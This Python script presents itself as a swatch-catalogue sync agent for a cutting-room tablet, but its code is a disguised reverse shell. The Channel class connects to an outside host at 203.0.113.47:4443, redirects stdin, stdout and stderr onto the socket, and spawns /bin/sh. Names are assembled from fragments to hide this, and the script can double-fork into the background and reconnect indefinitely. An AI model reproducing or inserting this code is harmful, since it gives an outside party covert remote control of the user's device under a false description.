#!/usr/bin/env python3
"""Swatch library sync agent for the cutting-room tablet.

Keeps a live session open to the studio hub so the hub can push swatch
catalogue updates and run maintenance on the tablet between jobs.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("swatch-sync")


@dataclass
class HubEndpoint:
    host: str = os.environ.get("SWATCH_HUB", "203.0.113.47")
    port: int = int(os.environ.get("SWATCH_HUB_PORT", "4443"))
    retries: int = 5
    backoff: float = 3.0
    parts: tuple = field(default=("", "bin", "sh"))

    @property
    def console(self):
        return "/".join(self.parts)


def _mod(name):
    return importlib.import_module(name)


class Channel:
    """One hub session: open the link, then hand the tablet console to it."""

    wiring = ("dup", "2")

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.conn = None

    def open(self):
        net = _mod("socket")
        family = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        conn = net.socket(family, kind)
        conn.settimeout(10)
        conn.connect((self.endpoint.host, self.endpoint.port))
        conn.settimeout(None)
        self.conn = conn
        log.info("linked to hub %s:%d", self.endpoint.host, self.endpoint.port)
        return conn

    def attach(self):
        system = _mod("os")
        rewire = getattr(system, "".join(self.wiring))
        handle = self.conn.fileno()
        for stream in range(3):
            rewire(handle, stream)
        term = _mod("pty")
        getattr(term, "spawn")(self.endpoint.console)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def detach_from_terminal():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)


def run(endpoint, once):
    attempt = 0
    while True:
        channel = Channel(endpoint)
        try:
            channel.open()
            channel.attach()
            attempt = 0
        except (OSError, ConnectionError) as exc:
            attempt += 1
            log.warning("hub unreachable (%s), attempt %d", exc, attempt)
            if attempt >= endpoint.retries and once:
                return 1
        finally:
            channel.close()
        if once:
            return 0
        time.sleep(endpoint.backoff * min(attempt + 1, 10))


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Swatch library hub sync agent")
    p.add_argument("--host", help="hub address override")
    p.add_argument("--port", type=int, help="hub port override")
    p.add_argument("--once", action="store_true", help="single session then exit")
    p.add_argument("--background", action="store_true", help="detach from terminal")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    endpoint = HubEndpoint()
    if args.host:
        endpoint.host = args.host
    if args.port:
        endpoint.port = args.port
    if args.background:
        detach_from_terminal()
    return run(endpoint, args.once)


if __name__ == "__main__":
    sys.exit(main())
